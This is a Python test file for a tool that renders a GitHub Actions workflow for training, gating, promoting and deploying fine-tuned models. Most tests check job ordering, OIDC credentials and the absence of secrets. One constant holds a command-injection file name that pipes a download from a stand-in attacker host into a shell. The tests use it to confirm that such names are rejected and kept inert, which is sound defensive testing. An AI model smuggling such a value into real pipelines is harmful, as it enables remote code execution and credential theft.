"""`ftops pipeline render`: a valid GitHub Actions workflow with OIDC, ordered applies and a guarded prod."""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path

import bashlex
import yaml


def test_workflow_is_valid_and_applies_in_order_with_oidc(ftops, tmp_path):
    out = tmp_path / "ftops.yml"
    result = ftops("pipeline", "render", "--out", out, "--json")
    assert result.exit_code == 0, result.stderr
    lint = subprocess.run([str(Path(sys.executable).parent / "check-jsonschema"), "--builtin-schema",
                           "vendor.github-workflows", str(out)], capture_output=True, text=True)
    assert lint.returncode == 0, lint.stdout + lint.stderr
    workflow = yaml.safe_load(out.read_text())
    jobs = workflow["jobs"]
    assert jobs["apply-staging"]["needs"] == ["apply-dev"] and jobs["apply-prod"]["needs"] == ["apply-staging"]
    assert jobs["apply-prod"]["environment"] == "prod"
    for name in ("apply-dev", "apply-staging", "apply-prod"):
        assert jobs[name]["permissions"]["id-token"] == "write"
        steps = {step.get("uses", "").split("@")[0]: step for step in jobs[name]["steps"]}
        assert steps["aws-actions/configure-aws-credentials"]["with"]["role-to-assume"].endswith("-pipeline")
        assert set(steps["azure/login"]["with"]) == {"client-id", "tenant-id", "subscription-id"}
    assert "secrets." not in out.read_text(), "no long-lived secrets"
    review = "\n".join(step.get("run", "") for step in jobs["review"]["steps"])
    assert "ftops data validate" in review and "ftops render" in review and "GITHUB_STEP_SUMMARY" in review


def test_check_reports_a_stale_workflow(ftops, tmp_path):
    out = tmp_path / "ftops.yml"
    out.write_text("name: old\n")
    assert ftops("pipeline", "render", "--out", out, "--check").exit_code == 1
    assert ftops("pipeline", "render", "--out", out).exit_code == 0
    assert ftops("pipeline", "render", "--out", out, "--check").exit_code == 0


def test_an_emulated_environment_cannot_be_in_the_pipeline(ftops, tmp_path):
    result = ftops("pipeline", "render", "--env", "local", "--out", tmp_path / "x.yml")
    assert result.exit_code == 1 and "emulated" in result.stderr


def _runs(job: dict) -> list[str]:
    return [step.get("run", "") for step in job["steps"]]


def test_staging_trains_and_gates_prod_promotes_and_deploys_without_training(ftops, tmp_path):
    out = tmp_path / "ftops.yml"
    assert ftops("pipeline", "render", "--out", out).exit_code == 0
    jobs = yaml.safe_load(out.read_text())["jobs"]
    staging = _runs(jobs["apply-staging"])
    apply = next(i for i, run in enumerate(staging) if run.startswith("ftops apply"))
    gate = next(i for i, run in enumerate(staging) if "--gate" in run)
    assert apply < gate, "the gate evaluates what staging trained"
    for name in ("helpdesk-gpt41mini", "helpdesk-qwen-lora"):
        assert f"ftops eval {name} --env staging --gate" in staging[gate]
    prod = _runs(jobs["apply-prod"])
    assert not any("ftops apply" in run for run in prod), "prod trains nothing (no job opts into retrain)"
    promote = next(i for i, run in enumerate(prod) if "ftops promote" in run)
    deploy = next(i for i, run in enumerate(prod) if "ftops deploy" in run)
    assert promote < deploy
    assert "ftops promote helpdesk-qwen-lora --from staging --to prod" in prod[promote]
    assert "ftops deploy helpdesk-gpt41mini --env prod" in prod[deploy]
    # Staging approves what passed its gate, with staging's identity, after the gate; prod only reads that
    # approval (no evaluation files travel to prod, and prod neither approves nor re-evaluates).
    approve = next(i for i, run in enumerate(staging) if "ftops models approve" in run)
    assert gate < approve
    for name in ("helpdesk-gpt41mini", "helpdesk-qwen-lora"):
        assert f"ftops models approve {name} --env staging" in staging[approve]
    assert not any("approve" in run or "ftops eval" in run for run in prod)
    assert not any("download-artifact" in s.get("uses", "") for s in jobs["apply-prod"]["steps"])
    uploads = [s["with"]["name"] for s in jobs["apply-staging"]["steps"] if "upload-artifact" in s.get("uses", "")]
    assert "evaluations-staging" in uploads  # kept for the audit
    assert jobs["apply-prod"]["needs"] == ["apply-staging"]
    for name in ("apply-dev", "apply-staging", "apply-prod"):
        runs = _runs(jobs[name])
        env = name.removeprefix("apply-")
        preflight = runs.index(f"ftops preflight --env {env}")
        assert all(i > preflight for i, run in enumerate(runs) if run.startswith(("ftops apply", "ftops promote")))
        assert jobs[name]["environment"] == env  # the OIDC subject the pipeline role trusts
        assert "default_branch" in jobs[name]["if"], "manual runs apply only from the default branch"


def test_a_retrain_job_trains_in_prod_and_passes_the_gate_there(ftops, project, tmp_path):
    project.edit_definition("helpdesk-qwen-lora", promotion="retrain")
    out = tmp_path / "ftops.yml"
    assert ftops("pipeline", "render", "--out", out).exit_code == 0
    prod = "\n".join(_runs(yaml.safe_load(out.read_text())["jobs"]["apply-prod"]))
    assert "ftops render --env prod --job helpdesk-qwen-lora" in prod
    assert "ftops eval helpdesk-qwen-lora --env prod --gate" in prod
    assert "--job helpdesk-gpt41mini" not in prod


def test_expressions_reach_run_only_through_env(ftops, tmp_path):
    out = tmp_path / "ftops.yml"
    assert ftops("pipeline", "render", "--out", out).exit_code == 0
    workflow = yaml.safe_load(out.read_text())
    for job in workflow["jobs"].values():
        for step in job["steps"]:
            assert "${{" not in step.get("run", ""), step


HOSTILE = "x$(curl${IFS}-sL${IFS}evil.example|sh)"


def test_a_hostile_definition_name_is_refused_before_the_template(ftops, project, tmp_path):
    (project.root / "definitions" / f"{HOSTILE}.yaml").write_text("name: x\n")
    result = ftops("pipeline", "render", "--out", tmp_path / "ftops.yml")
    assert result.exit_code == 1 and "is not a job name" in result.stderr
    assert not (tmp_path / "ftops.yml").exists()


def _substitutions(node) -> list:
    """Command and process substitutions anywhere under a bashlex node."""
    found = []

    class Visitor(bashlex.ast.nodevisitor):
        def visitcommandsubstitution(self, n, command):
            found.append(n)

        def visitprocesssubstitution(self, n, command):
            found.append(n)

    Visitor().visit(node)
    return found


def test_names_reaching_shell_stay_one_quoted_word(monkeypatch, tmp_path):
    """Even if a hostile name got past validation, every `run:` script parses (bashlex) with the name as one
    literal word and no command substitution, and the workflow stays valid for GitHub's schema."""
    from jobs.pipeline import render

    monkeypatch.setattr(render, "pipeline_jobs", lambda: ([HOSTILE, "ok-job"], [HOSTILE]))
    monkeypatch.setattr(render, "_environment", lambda name: {
        "name": name, "aws_role": "arn:aws:iam::111111111111:role/ftops-x-pipeline", "aws_region": "us-east-1",
        "azure_subscription": None, "production": name == "prod", "promote_to": None, "promote_from": None})
    text = render.render_workflow(["staging", "prod"])
    out = tmp_path / "ftops.yml"
    out.write_text(text)
    lint = subprocess.run([str(Path(sys.executable).parent / "check-jsonschema"), "--builtin-schema",
                           "vendor.github-workflows", str(out)], capture_output=True, text=True)
    assert lint.returncode == 0, lint.stdout + lint.stderr
    scripts = [step["run"] for job in yaml.safe_load(text)["jobs"].values() for step in job["steps"] if "run" in step]
    seen = 0
    for script in scripts:
        for part in bashlex.parse(script):
            assert _substitutions(part) == [], script
        for line in script.splitlines():
            if HOSTILE in line:
                words = [w for part in bashlex.parse(line) for w in _words(part)]
                assert HOSTILE in words or any(HOSTILE in w and w.endswith(".json") for w in words), line
                seen += 1
    assert seen >= 3  # promote, deploy and the retrain steps all name it


def _words(node) -> list[str]:
    found = []

    class Visitor(bashlex.ast.nodevisitor):
        def visitword(self, n, word):
            found.append(word)

    Visitor().visit(node)
    return found


def test_prod_follows_the_environment_it_promotes_from(ftops, tmp_path):
    """prod serves what staging approved (aws.promotion_targets, as promotion.json says): a pipeline that runs
    another environment just before prod would gate and approve there, and prod's deploy would refuse it."""
    result = ftops("pipeline", "render", "--env", "dev", "--env", "prod", "--out", tmp_path / "x.yml")
    assert result.exit_code == 1 and "prod promotes from staging" in result.stderr, result.stderr
